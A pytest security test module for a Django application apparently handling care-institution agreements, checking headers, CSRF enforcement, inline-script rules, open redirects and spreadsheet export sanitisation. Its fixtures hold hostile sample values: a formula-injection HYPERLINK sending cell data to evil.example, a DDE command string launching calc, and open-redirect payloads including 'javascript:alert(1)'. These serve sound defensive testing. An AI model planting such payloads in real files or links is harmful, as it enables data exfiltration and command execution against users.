"""What every answer tells the browser, and what no page may hold: read off all addresses at once."""

import csv
import re
from collections.abc import Iterable, Iterator, Mapping
from html.parser import HTMLParser
from http import HTTPStatus
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from django.conf import settings
from django.http.response import HttpResponseBase
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from agreements.events import PartnerLetterPrinted
from audit import log_events
from audit.models import Entry
from boundary.events import FileDownloaded, ListExported
from filing import events as filing_events
from institutions.models import Institution
from tests.access.addresses import ALL
from tests.access.test_anonymous import address
from tests.access.world import World
from tests.exporting import content_of, exported
from tests.security.pages import Page, inner_links, loose_in
from tests.security.walking import visits

ROOT = Path(settings.BASE_DIR)
CSP = "Content-Security-Policy"
SAFE_REST = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "same-origin",
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
}
GIVEN_OUT = {FileDownloaded.code, filing_events.ReceiptDownloaded.code, ListExported.code, log_events.Exported.code}
GIVEN_OUT |= {PartnerLetterPrinted.code}
# Nobody's data: an empty form, and what is meant to be kept and compared elsewhere.
NOBODYS = {"import-template", "log-anchor-file", "log-key", "log-verifier"}
# What any program fetches to check a signature: anybody's, and kept for an hour (tests/sealing/test_authority.py).
FOR_EVERYBODY = {"authority-certificate", "revocation-list"}
LEDGERS = ("agreements", "filings", "coverage")
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
NOT_OF_THE_SITE = {"templates/emails", "templates/pdf"}  # letters and papers need their styles inside them
TEMPLATE_TAGS = re.compile(r"\{%.*?%\}|\{\{.*?\}\}", re.DOTALL)
FORMS = re.compile(r"<form\b.*?</form>", re.DOTALL)
SENDS = re.compile(r"""method=["']post["']""", re.IGNORECASE)
INLINE_IN_SCRIPTS = re.compile(
    r"""setAttribute\(\s*["'](style|on\w+)|\.on[a-z]+\s*=[^=]|\beval\(|new Function\(|javascript:"""
)


@pytest.fixture
def hostile(
    elder_care_institution: Institution, medical_institution: Institution, elder_care_clerk: User, health_reviewer: User
) -> None:
    """Names like formulas, before anything is made of them: agreements keep the names that they were made with."""
    for institution, name in ((elder_care_institution, FORMULA), (medical_institution, COMMAND)):
        institution.name = institution.legal_representative = institution.address = name
        institution.save(update_fields=["name", "legal_representative", "address"])
    for user in (elder_care_clerk, health_reviewer):
        user.full_name = "+86 王五"
        user.save(update_fields=["full_name"])


def texts_of(content: bytes) -> Iterator[tuple[str, bool]]:
    """Yield every text in the cells of a workbook or a csv file, and whether it is marked as a text and no formula."""
    if content.startswith(b"PK"):
        for row in (row for sheet in load_workbook(BytesIO(content)) for row in sheet.iter_rows()):
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell.value, cell.data_type == "s" and bool(cell.quotePrefix)
    else:
        yield from ((text, False) for line in csv.reader(StringIO(content.decode("utf-8-sig"))) for text in line)


def formulas_in(content: bytes) -> Iterator[str]:
    """Yield the texts that a program might compute."""
    return (text for text, marked in texts_of(content) if text.startswith(FORMULAS) and not marked)


class Inline(HTMLParser):
    """Collects what the content policy would refuse."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        kind = given.get("type") or ""
        if tag == "style" or (tag == "script" and "src" not in given and kind != "application/json"):
            self.found.append(tag)
        self.found += [
            f"{tag} {name}"
            for name, value in attrs
            if name == "style" or name.startswith(("on", "hx-on")) or (value or "").strip().startswith("javascript:")
        ]


def inline_in(html: str) -> list[str]:
    parser = Inline()
    parser.feed(html)
    return parser.found


def wrong_with(response: HttpResponseBase) -> Iterator[str]:
    """Tell what is missing from an answer to a signed-in person."""
    policy = response.get(CSP, "")
    if not ("default-src 'self'" in policy and "object-src 'none'" in policy) and "default-src 'none'" not in policy:
        yield f"policy {policy!r}"
    if "unsafe" in policy or "frame-ancestors" not in policy:
        yield f"policy {policy!r}"
    yield from (name for name, value in SAFE_REST.items() if response.get(name) != value)
    if response.get("X-Frame-Options") not in {"DENY", "SAMEORIGIN"} or "Permissions-Policy" not in response:
        yield "frames or powers"
    if "private" not in response.get("Cache-Control", ""):
        yield f"kept as {response.get('Cache-Control')!r}"


def refused(client: Client, offered: Mapping[User, Iterable[str]]) -> Iterator[str]:
    """Open every link that a page offered, as the person to whom it did, and tell which are refused."""
    for user, links in offered.items():
        client.force_login(user)
        for link in sorted(links):
            answer = client.get(link)
            answer.getvalue()
            if answer.status_code >= HTTPStatus.BAD_REQUEST:
                yield f"{link} is offered to {user.username} and answers {answer.status_code}"


@pytest.mark.django_db
def test_every_page_and_every_file(hostile: None, world: World, request: pytest.FixtureRequest, client: Client) -> None:
    """Headers; nothing inline or loose in pages, no link refused; of every file an entry; no formula in sheets."""
    wrong: list[str] = []
    files: set[str] = set()
    offered: dict[User, set[str]] = {}
    for visit in visits(world, request):
        if visit.name in FOR_EVERYBODY:
            continue
        client.force_login(visit.user)
        before = Entry.objects.filter(event__in=GIVEN_OUT).count()
        response = client.get(visit.url)
        content, kind = response.getvalue(), response["Content-Type"]
        wrong += [f"{visit}: {what}" for what in wrong_with(response)]
        if kind.startswith("text/html"):
            wrong += [f"{visit}: inline {what}" for what in inline_in(content.decode())]
            page = Page(content.decode())
            wrong += [f"{visit}: {what}" for what in loose_in(page)]
            offered.setdefault(visit.user, set()).update(inner_links(page, visit.url))
        if "spreadsheet" in kind or "csv" in kind:
            wrong += [f"{visit}: formula {text}" for text in formulas_in(content)]
        if response.get("Content-Disposition", "").startswith("attachment"):
            files.add(visit.name)
            entries = Entry.objects.filter(event__in=GIVEN_OUT).count() - before
            if entries != (visit.name not in NOBODYS):
                wrong.append(f"{visit}: not logged")
            if response["Cache-Control"] != "private, no-store" or "sandbox" not in response[CSP]:
                wrong.append(f"{visit}: given out by another way than boundary.serving")
    wrong += refused(client, offered)
    assert not wrong, "\n".join(wrong)
    assert {"export-file", "copy-download", "scan-file"} <= files


@pytest.mark.django_db
def test_no_list_that_is_taken_along_computes(
    hostile: None, world: World, client: Client, health_reviewer: User
) -> None:
    client.force_login(health_reviewer)
    for slug in LEDGERS:
        asked = {"code": str(world["county"]["code"])} if slug == "coverage" else {}
        content = content_of(exported(client, slug, asked))
        said = "\n".join(text for text, _ in texts_of(content))
        assert not list(formulas_in(content)), slug
        assert FORMULA in said, slug
        assert f"'{FORMULA}" not in said, slug


def test_no_template_and_no_script_of_ours_is_inline() -> None:
    wrong = [
        f"{path.relative_to(ROOT)}: {what}"
        for path in sorted((ROOT / "templates").rglob("*.html"))
        if not any(str(path.relative_to(ROOT)).startswith(place) for place in NOT_OF_THE_SITE)
        for what in inline_in(TEMPLATE_TAGS.sub("", path.read_text(encoding="utf-8")))
    ]
    wrong += [
        f"{path.relative_to(ROOT)}: {match.group()}"
        for path in sorted((ROOT / "static/js").rglob("*.js"))
        for match in INLINE_IN_SCRIPTS.finditer(path.read_text(encoding="utf-8"))
    ]
    assert not wrong, "\n".join(wrong)


def test_every_form_of_a_template_that_sends_something_has_its_token() -> None:
    """Also where no test posts as a browser does: Django's own client is let in without one."""
    wrong = [
        f"{path.relative_to(ROOT)}: {form[:80]}"
        for path in sorted((ROOT / "templates").rglob("*.html"))
        for form in FORMS.findall(path.read_text(encoding="utf-8"))
        if SENDS.search(form) and "{% csrf_token %}" not in form and "{{ csrf_token }}" not in form
    ]
    assert not wrong, "\n".join(wrong)


@pytest.mark.django_db
def test_the_public_page_and_a_static_file_have_the_policy_too(client: Client) -> None:
    for url in (reverse("sign-in"), "/static/img/mark.svg"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "default-src 'self'" in response[CSP]
        assert "unsafe" not in response[CSP]
        assert response["X-Content-Type-Options"] == "nosniff"
        response.close()


@pytest.mark.django_db
def test_no_form_is_taken_without_its_token(elder_care_clerk: User) -> None:
    """At every address, before anything else is asked; no view is exempt."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(elder_care_clerk)
    taken = {str(pattern.name): client.post(address(pattern)).status_code for pattern in ALL}
    assert {name: status for name, status in taken.items() if status != 403} == {}
    assert not [pattern.name for pattern in ALL if getattr(pattern.callback, "csrf_exempt", False)]


@pytest.mark.django_db
def test_an_unknown_host_is_refused(client: Client) -> None:
    assert client.get(reverse("sign-in"), headers={"host": "evil.example"}).status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize(
    "onward",
    [
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "http:evil",
        "\thttps://evil",
    ],
)
def test_nobody_is_led_off_the_site(client: Client, elder_care_clerk: User, onward: str) -> None:
    client.force_login(elder_care_clerk)
    for response in (
        client.get(reverse("sign-in"), {"next": onward}),
        client.post(reverse("large-print"), {"next": onward}),
    ):
        assert response.status_code == 302
        assert response["Location"] == reverse("home")
